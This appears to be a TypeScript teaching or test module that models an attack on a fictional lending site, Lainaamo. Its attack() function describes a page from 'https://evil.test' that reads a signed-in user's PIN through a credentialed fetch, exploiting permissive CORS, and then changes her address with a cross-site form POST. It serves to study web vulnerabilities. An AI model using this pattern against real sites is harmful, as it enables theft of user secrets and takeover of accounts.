/** What the attacker knows. */
export interface Target {
  /** Where Anna's things shall be brought to from now on. */
  address: string;
}

/** A page that Anna opens while she is signed in at Lainaamo. */
export interface EvilPage {
  /** From where it is served, such as `https://evil.test`, or `null` for a sandboxed frame. */
  origin: string;
  /** What it lets the browser send to Lainaamo, one after another. */
  requests: EvilRequest[];
}

/** A form that the page submits, or a call of `fetch` with `credentials: 'include'`. */
export type EvilRequest = EvilForm | EvilFetch;

/** The browser goes to the answer: the page cannot read it. */
export interface EvilForm {
  by: 'form';
  method: 'GET' | 'POST';
  path: string;
  /** How the browser writes the fields into a POST's body. */
  enctype: 'application/x-www-form-urlencoded' | 'text/plain';
  fields: Record<string, string>;
}

/** The page reads the answer if CORS allows it. */
export interface EvilFetch {
  by: 'fetch';
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}

/**
 * The page that reads Anna's PIN and sets her address. For the first, Lainaamo answers to every origin
 * that it may read. The second needs no answer, and so no permission: a form can be sent anywhere.
 */
export function attack({ address }: Target): EvilPage {
  return {
    origin: 'https://evil.test',
    requests: [
      { by: 'fetch', method: 'GET', path: '/me', headers: {} },
      {
        by: 'form',
        method: 'POST',
        path: '/me/address',
        enctype: 'application/x-www-form-urlencoded',
        fields: { address },
      },
    ],
  };
}
